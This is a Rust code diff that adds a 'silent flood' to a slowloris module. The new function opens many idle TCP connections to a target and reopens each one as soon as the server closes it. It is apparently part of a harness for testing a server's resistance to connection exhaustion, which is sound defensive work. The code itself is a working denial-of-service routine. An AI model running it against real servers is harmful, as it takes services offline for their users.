@@ -1,5 +1,7 @@
 //! A slowloris: many connections, each sending its first bytes one at a
 //! time and never finishing, opened again as soon as the server drops one.
+//! Or a silent flood: connections that send nothing, opened again as soon
+//! as the server closes one.
 
 use std::io::Write;
 use std::net::{Ipv4Addr, SocketAddr, TcpStream};
@@ -92,6 +94,42 @@ pub fn start(source: Ipv4Addr, target: SocketAddr, connections: usize, head: Vec
                     }
                     std::thread::sleep(Duration::from_millis(100));
                 }
+            }
+        })
+    };
+    Slowloris {
+        stop,
+        opened,
+        thread: Some(thread),
+    }
+}
+
+/// `connections` connections from `source` to `target` that send nothing,
+/// each opened again as soon as the server closes it.
+pub fn silent(source: Ipv4Addr, target: SocketAddr, connections: usize) -> Slowloris {
+    let stop = Arc::new(AtomicBool::new(false));
+    let opened = Arc::new(AtomicUsize::new(0));
+    let thread = {
+        let (stop, opened) = (stop.clone(), opened.clone());
+        std::thread::spawn(move || {
+            let mut held: Vec<Option<TcpStream>> = (0..connections).map(|_| None).collect();
+            while !stop.load(Ordering::SeqCst) {
+                for slot in held.iter_mut() {
+                    if slot.is_none()
+                        && let Ok(stream) = connect_from(source, target)
+                        && stream.set_nonblocking(true).is_ok()
+                    {
+                        opened.fetch_add(1, Ordering::SeqCst);
+                        *slot = Some(stream);
+                    }
+                    // Closed by the server: read as the end, or an error.
+                    if let Some(stream) = slot
+                        && !matches!(stream.peek(&mut [0u8; 1]), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
+                    {
+                        *slot = None;
+                    }
+                }
+                std::thread::sleep(Duration::from_millis(10));
             }
         })
     };
